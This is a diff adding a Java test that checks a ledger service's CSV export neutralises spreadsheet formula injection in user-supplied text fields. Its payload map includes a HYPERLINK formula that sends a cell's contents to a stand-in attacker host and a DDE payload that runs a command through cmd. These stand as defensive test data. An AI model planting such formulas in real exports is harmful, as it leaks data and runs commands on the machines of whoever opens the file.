@@ -10,6 +10,7 @@ import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvParser;
 import dev.teamcredits.events.team.Plan;
+import dev.teamcredits.events.team.Role;
 import dev.teamcredits.ledger.LedgerFixture.Org;
 import dev.teamcredits.ledger.LedgerFixture.User;
 import io.quarkus.test.junit.QuarkusTest;
@@ -27,6 +28,7 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
+import java.util.UUID;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.stream.Collectors;
@@ -41,6 +43,27 @@ class TransactionCsvTest extends LedgerTestBase {
 
     private static final Pattern NEXT = Pattern.compile("<([^>]*)>\\s*;\\s*rel=\"next\"");
     private static final String HEADER = "id,at,type,amount,actor,reason,reverses,accounts";
+
+    /**
+     * OWASP's CSV injection payloads, one per character that makes a spreadsheet read a cell as a formula
+     * ({@code = + - @}) or that a spreadsheet skips before one (tab, CR, LF); and a text that already starts
+     * with the neutralising quote, which must come back as it was too.
+     */
+    static final Map<String, String> FORMULAS = new LinkedHashMap<>();
+
+    static {
+        FORMULAS.put("=", "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")");
+        FORMULAS.put("+", "+1+cmd|' /C calc'!A0");
+        FORMULAS.put("-", "-2+3");
+        FORMULAS.put("@", "@SUM(1+1)");
+        FORMULAS.put("tab", "\t=1+1");
+        FORMULAS.put("CR", "\r=1+1");
+        FORMULAS.put("LF", "\n=1+1");
+        FORMULAS.put("'", "'=1+1");
+    }
+
+    /** What a cell must never start with: a spreadsheet would run it (or skip to what it runs). */
+    private static final String FORMULA_STARTS = "=+-@\t\r\n";
 
     /**
      * Every combination of account, type and limit filters (each also left out): the CSV walked page by page
@@ -131,6 +154,90 @@ class TransactionCsvTest extends LedgerTestBase {
                 LinkedHashMap::new, Collectors.counting()));
         return rows.size() + " rows " + byType.entrySet().stream().map(e -> e.getKey() + " " + e.getValue())
                 .collect(Collectors.joining(", ", "(", ")"));
+    }
+
+    /**
+     * Every CSV column that carries user text (actor: the caller's subject; reason: free text; accounts: refs
+     * with user ids) × every formula start, read back with a CSV parser: the cell does not start a formula, it
+     * is the text with one quote before it (OWASP), so the text is recovered by dropping that quote, and
+     * ordinary text is written as it is.
+     */
+    @Test
+    void csvCellsOfUserTextNeverStartAFormulaAndKeepTheText() throws IOException {
+        Org org = Org.create(Plan.PRO, 1000, false, true);
+        Map<String, String> transfers = new LinkedHashMap<>();
+        for (Map.Entry<String, String> formula : FORMULAS.entrySet()) {
+            String payload = formula.getValue();
+            // The admin's and the member's subjects start with the payload: actor and accounts carry it.
+            User admin = org.join(LedgerFixture.userWithSubject(payload + "#admin-" + UUID.randomUUID(), "admin"),
+                    Role.ADMIN, false);
+            User member = org.join(LedgerFixture.userWithSubject(payload + "#member-" + UUID.randomUUID(), "member"),
+                    Role.MEMBER, false);
+            transfers.put(formula.getKey(), post(admin).body(Map.of("from", "pool", "to", member.subject(), "amount", 1,
+                    "reason", payload)).post("/v1/orgs/{o}/transfers", org.id).then().statusCode(201).extract()
+                    .path("transactionId"));
+        }
+        String ordinary = "Q3 \"launch\", team A; 50% more";
+        transfers.put("ordinary", post(org.admin).body(Map.of("from", "pool", "to", org.admin.subject(), "amount", 1,
+                "reason", ordinary)).post("/v1/orgs/{o}/transfers", org.id).then().statusCode(201).extract()
+                .path("transactionId"));
+
+        Map<Object, Map<String, Object>> json = new LinkedHashMap<>();
+        jsonPage(org, query(null, "TRANSFER", 1000, null)).items().forEach(row -> json.put(row.get("id"), row));
+        Map<String, List<String>> csv = new LinkedHashMap<>();
+        String export = as(org.admin).accept("text/csv").queryParam("type", "TRANSFER").queryParam("limit", 1000)
+                .get("/v1/orgs/{o}/transactions", org.id).then().statusCode(200).contentType("text/csv").extract()
+                .asString();
+        List<List<String>> rows = parse(export);
+        assertEquals(List.of(HEADER.split(",")), rows.get(0));
+        rows.subList(1, rows.size()).forEach(row -> csv.put(row.get(0), row));
+
+        List<String> table = new ArrayList<>();
+        List<String> wrong = new ArrayList<>();
+        for (Map.Entry<String, String> transfer : transfers.entrySet()) {
+            Map<String, Object> expected = json.get(transfer.getValue());
+            List<String> row = csv.get(transfer.getValue());
+            assertEquals(8, row.size(), transfer.getKey() + ": one row of 8 cells, whatever the text held");
+            Map<String, String> texts = new LinkedHashMap<>();
+            texts.put("actor", (String) expected.get("actor"));
+            texts.put("reason", (String) expected.get("reason"));
+            texts.put("accounts", null); // refs first, so never a formula start: the JSON row's pairs, as they are
+            for (Map.Entry<String, String> text : texts.entrySet()) {
+                String cell = row.get(List.of(HEADER.split(",")).indexOf(text.getKey()));
+                String original = text.getValue();
+                boolean neutral = cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0;
+                boolean kept = original == null ? sameAccounts(cell, accountsOf(expected))
+                        : (cell.startsWith("'") ? cell.substring(1) : cell).equals(original);
+                boolean owasp = original == null || cell.equals(startsWithFormulaOrQuote(original) ? "'" + original
+                        : original);
+                String line = String.format("%-8s %-8s cell %-44s %s", transfer.getKey(), text.getKey(),
+                        printable(cell), neutral && kept && owasp ? "ok" : (neutral ? "" : "STARTS A FORMULA ")
+                                + (kept ? "" : "TEXT LOST ") + (owasp ? "" : "NOT THE TEXT WITH ONE QUOTE BEFORE IT"));
+                table.add(line);
+                if (!(neutral && kept && owasp)) {
+                    wrong.add(line.replaceAll(" +", " "));
+                }
+            }
+        }
+        System.out.println("[csv] formula injection, " + FORMULAS.size() + " starts x 3 columns + ordinary text:\n"
+                + String.join("\n", table));
+        assertEquals(List.of(), wrong, wrong.size() + " cells of user text are not neutralised or lost their text");
+    }
+
+    private static boolean startsWithFormulaOrQuote(String text) {
+        return !text.isEmpty() && (FORMULA_STARTS.indexOf(text.charAt(0)) >= 0 || text.charAt(0) == '\'');
+    }
+
+    /** The accounts cell holds each {@code ref=net} pair of the JSON row, and nothing else. */
+    private static boolean sameAccounts(String cell, Map<String, Long> accounts) {
+        // Refs hold user ids, which may hold spaces and '=': compare pair by pair, not by splitting the cell.
+        List<String> pairs = accounts.entrySet().stream().map(e -> e.getKey() + "=" + e.getValue()).toList();
+        return pairs.stream().allMatch(cell::contains)
+                && cell.length() == pairs.stream().mapToInt(String::length).sum() + pairs.size() - 1;
+    }
+
+    private static String printable(String cell) {
+        return "\"" + cell.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") + "\"";
     }
 
     // ---------------------------------------------------------------- JSON and CSV walks
